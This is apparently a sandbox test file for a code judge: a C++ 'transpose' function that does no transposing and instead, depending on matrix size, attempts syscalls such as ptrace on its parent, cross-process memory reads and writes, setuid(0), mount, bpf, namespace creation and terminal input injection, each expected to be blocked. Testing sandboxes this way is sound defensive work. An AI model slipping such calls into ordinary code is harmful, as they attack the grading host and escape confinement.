// score: 0
// says: not allowed: ptrace
// says: not allowed: process_vm_readv
// says: not allowed: process_vm_writev
// says: not allowed: io_uring_setup
// says: not allowed: unshare
// says: not allowed: clone
// says: not allowed: ioctl
// says: not allowed: setuid
// says: not allowed: keyctl
// says: not allowed: mount
// says: not allowed: bpf
// says: not allowed: userfaultfd
// says: not allowed: open_by_handle_at
// says: not allowed: one of another architecture
// Every case makes a different attack on the judge or on the kernel.
#include <sched.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "transpose.h"

void transpose(const float*, float*, int rows, int cols) {
  char secret[4096];
  iovec mine = {secret, sizeof secret};
  iovec theirs = {reinterpret_cast<void*>(0x400000), sizeof secret};
  long result = 0;
  if (rows == 32 && cols == 33) rows = 34;  // 32 and 33 rows have two shapes each
  if (rows == 33 && cols == 32) rows = 35;
  switch (rows) {
    case 1: result = ptrace(PTRACE_ATTACH, getppid(), nullptr, nullptr); break;
    case 3: result = process_vm_readv(getppid(), &mine, 1, &theirs, 1, 0); break;
    case 31: result = process_vm_writev(getppid(), &mine, 1, &theirs, 1, 0); break;
    case 32: result = syscall(SYS_io_uring_setup, 8, secret); break;
    case 33: result = unshare(CLONE_NEWUSER | CLONE_NEWNS); break;
    case 63: result = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0); break;
    case 64: result = ioctl(0, TIOCSTI, "x"); break;
    case 65: result = setuid(0); break;
    case 97: result = syscall(SYS_keyctl, 0, -3, 0); break;
    case 100: result = syscall(SYS_mount, "none", "/tmp", "tmpfs", 0, ""); break;
    case 256: result = syscall(SYS_bpf, 0, secret, sizeof secret); break;
    case 34: result = syscall(SYS_userfaultfd, 0); break;
    case 35: result = syscall(SYS_open_by_handle_at, 0, secret, 0); break;
    default: result = syscall(0x40000000 | SYS_getpid);  // as x32 numbers it
  }
  if (result != 0) _exit(7);
}
